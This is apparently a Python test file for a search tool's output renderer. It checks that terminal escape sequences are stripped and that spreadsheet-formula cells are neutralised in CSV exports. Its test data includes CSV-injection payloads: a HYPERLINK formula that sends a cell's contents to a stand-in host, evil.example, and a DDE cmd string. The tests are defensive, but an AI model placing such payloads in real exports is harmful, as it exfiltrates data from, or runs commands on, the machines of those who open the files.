"""Rendering hits and articles: emphasis only on request, document text made terminal-safe."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json

from hypothesis import given, strategies as st

from searchidx.models import Article, Copy, Hit, Snippet
from searchidx.render import (
    BOLD, RESET, article_dict, csv_cell, hit_dict, hits_text, records_jsonl, results_json, rows_csv, safe, snippet_text,
)

BEIJING = dt.timezone(dt.timedelta(hours=8))


def _hit(**kw: object) -> Hit:
    base: dict[str, object] = dict(
        id="a.txt", path="/x/a.txt", score=1.5, rank=1, title="Talks",
        snippet=Snippet("in the Central Asian region", ((7, 20),)),
        date=dt.datetime(2020, 2, 16, 10, 16, tzinfo=BEIJING), source="Xinhua", dateline="MUNICH",
        speakers=("Wang Yi", "Sergei Lavrov"),
    )
    base.update(kw)
    return Hit(**base)  # type: ignore[arg-type]


def test_snippet_is_printed_on_one_line() -> None:
    snip = Snippet("end of one.\n\nStart of  two", ((13, 18),))
    assert snippet_text(snip, color=False) == "end of one. Start of two"
    assert snippet_text(snip, color=True) == f"end of one. {BOLD}Start{RESET} of two"


def test_snippet_emphasis_only_with_color() -> None:
    snip = Snippet("in the Central Asian region", ((7, 20),))
    assert snippet_text(snip, color=False) == "in the Central Asian region"
    assert snippet_text(snip, color=True) == f"in the {BOLD}Central Asian{RESET} region"


def test_hits_text_plain_has_every_field() -> None:
    assert hits_text([_hit()]) == (
        "1. Talks\n"
        "   2020-02-16 10:16 UTC+08:00 · MUNICH · Xinhua · speakers: Wang Yi, Sergei Lavrov\n"
        "   a.txt\n"
        "   in the Central Asian region"
    )


def test_hits_json_contract() -> None:
    data = json.loads(results_json(7, "hits", [hit_dict(_hit())], None))
    assert data["total"] == 7 and data["facets"] is None
    (rec,) = data["hits"]
    assert rec["date"] == "2020-02-16T10:16:00+08:00"
    assert rec["matches"] == [[7, 20]]
    for key in ("path", "title", "date", "source", "dateline", "speakers", "score", "snippet"):
        assert key in rec


def test_escape_sequences_from_documents_are_removed() -> None:
    evil = "ok\x1b[2J\x1b]0;pwned\x07 title\x00\x9b"
    hit = _hit(title=evil, snippet=Snippet(evil))
    out = hits_text([hit], color=True)
    assert "\x1b[2J" not in out and "\x1b]0" not in out and "\x00" not in out and "\x9b" not in out
    assert "ok title" in out


@given(st.text())
def test_safe_leaves_no_control_characters(text: str) -> None:
    cleaned = safe(text)
    assert not any(ord(c) < 32 and c not in "\t\n" or 0x7F <= ord(c) <= 0x9F for c in cleaned)


def test_article_dict_contract() -> None:
    a = Article(path="/x/s.jsonl", body="text", title="T", date=dt.date(2021, 5, 20), record=3)
    d = article_dict(a)
    assert d["id"] == "/x/s.jsonl#3" and d["date"] == "2021-05-20" and d["body"] == "text"
    assert d["speakers"] == [] and d["statements"] == []


def test_every_hit_keeps_its_shape_whatever_the_document_holds() -> None:
    hit = _hit(id="/x/odd\nname.txt", title="Two\nlines", dateline="MUNICH\n", speakers=("Wang\nYi",))
    lines = hits_text([hit]).splitlines()
    assert lines[0] == "1. Two lines"
    assert lines[1].startswith("   2020-02-16 10:16 UTC+08:00 · MUNICH · Xinhua · speakers: Wang Yi")
    assert lines[2] == "   /x/odd\\nname.txt"
    assert len(lines) == 4


def _copies() -> tuple[Copy, ...]:
    return (Copy("b.html", "/y/b.html", "Talks, again", dt.date(2020, 2, 16), "China Daily", "https://b.example/1"),
            Copy("c.txt", "/z/c.txt", None, None, None, None))


def test_copies_are_named_on_the_hit_in_text_and_json() -> None:
    hit = _hit(copies=_copies())
    assert hits_text([hit]).splitlines()[-1] == "   +2 copies: China Daily 2020-02-16, c.txt"
    data = hit_dict(hit)
    assert data["copies"] == [
        {"id": "b.html", "path": "/y/b.html", "title": "Talks, again", "date": "2020-02-16", "source": "China Daily",
         "url": "https://b.example/1"},
        {"id": "c.txt", "path": "/z/c.txt", "title": None, "date": None, "source": None, "url": None}]
    assert hit_dict(_hit())["copies"] == []


def test_jsonl_is_one_json_hit_per_line_with_the_json_fields() -> None:
    hits = [_hit(), _hit(id="b.txt", rank=2, copies=_copies())]
    lines = records_jsonl([hit_dict(h) for h in hits]).splitlines()
    assert [json.loads(line) for line in lines] == [hit_dict(h) for h in hits]


def test_csv_has_the_json_fields_and_keeps_commas_quotes_and_newlines_in_their_cells() -> None:
    tricky = 'Ministers say "no", then\nagree, at last'
    hits = [_hit(title=tricky, snippet=Snippet("a, b\r\nc", ((0, 1),)), copies=_copies())]
    rows = list(csv.reader(io.StringIO(rows_csv([hit_dict(h) for h in hits]), newline="")))
    assert rows[0] == list(hit_dict(hits[0]))
    row = dict(zip(rows[0], rows[1]))
    assert len(rows) == 2 and row["title"] == tricky and row["snippet"] == "a, b\r\nc"
    assert row["speakers"] == "Wang Yi; Sergei Lavrov" and row["score"] == "1.5"
    assert json.loads(row["matches"]) == [[0, 1]]
    assert [c["id"] for c in json.loads(row["copies"])] == ["b.html", "c.txt"]


def test_csv_neutralises_cells_a_spreadsheet_would_run_as_formulas() -> None:
    """OWASP's CSV injection list: a cell starting with =, +, -, @, a tab or a carriage return."""
    evil = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
            "\tx", "\rx", "  =1+1", "\x1b[2J=1+1"]
    for text in evil:
        cell = csv_cell(text)
        assert cell.startswith("'") and cell.lstrip("'").lstrip(" ")[0] in "=+-@\t\r", text
    hits = [_hit(title=t, rank=i) for i, t in enumerate(evil, 1)]
    rows = list(csv.reader(io.StringIO(rows_csv([hit_dict(h) for h in hits]), newline="")))[1:]
    assert [r[3] for r in rows] == ["'" + e.replace("\x1b[2J", "") for e in evil]
    assert csv_cell("Talks = progress") == "Talks = progress" and csv_cell(-1.5) == -1.5  # numbers stay numbers
    assert csv_cell(None) == "" and csv_cell(["a", "b"]) == "a; b"


def test_csv_of_no_hits_is_empty() -> None:
    assert rows_csv([]) == "" and records_jsonl([]) == ""


def test_csv_spreads_a_quotes_article_into_columns_of_its_own() -> None:
    rows = list(csv.reader(io.StringIO(rows_csv([
        {"speaker": "Wang Yi", "quote": "=1+1, he said", "article": {"id": "a.txt", "title": "Talks", "date": None}},
    ]), newline="")))
    assert rows == [["speaker", "quote", "article.id", "article.title", "article.date"],
                    ["Wang Yi", "'=1+1, he said", "a.txt", "Talks", ""]]
